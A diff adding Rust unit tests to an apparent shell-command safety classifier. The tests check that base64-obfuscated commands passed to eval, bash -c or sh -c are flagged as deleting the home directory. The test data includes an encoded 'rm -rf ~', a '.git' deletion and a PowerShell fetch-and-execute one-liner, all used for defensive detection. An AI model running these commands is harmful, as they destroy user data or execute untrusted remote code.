@@ -222,6 +222,24 @@ pub(crate) mod testing {
         // A subshell's `cd` ends with it.
         assert!(has("(cd /tmp && make); rm -rf .git", "delete@vcs"));
         assert!(has("echo cm0gLXJmIH4= | base64 -d | sh", "delete@home"));
+        // Decoded text substituted into code runs as the piped form does.
+        for line in [
+            "eval \"$(echo cm0gLXJmIH4= | base64 -d)\"",
+            "eval $(echo cm0gLXJmIH4= | base64 --decode)",
+            "bash -c \"$(echo cm0gLXJmIH4= | base64 -d)\"",
+            "sh -c \"$(base64 -d <<< cm0gLXJmIH4=)\"",
+        ] {
+            assert!(has(line, "delete@home"), "{line}: {:?}", effects(line));
+        }
+        // Decoded, but only printed or stored: no code runs.
+        assert!(!has(
+            "echo \"$(echo cm0gLXJmIH4= | base64 -d)\"",
+            "delete@home"
+        ));
+        assert!(!has(
+            "x=$(echo bHMgLWxh | base64 -d); eval \"$x\"",
+            "delete@home"
+        ));
         assert!(has("cat x.sh | bash", "opaque@none"));
         assert!(has("iwr https://x/a.ps1 | iex", "remote_exec@none"));
     }
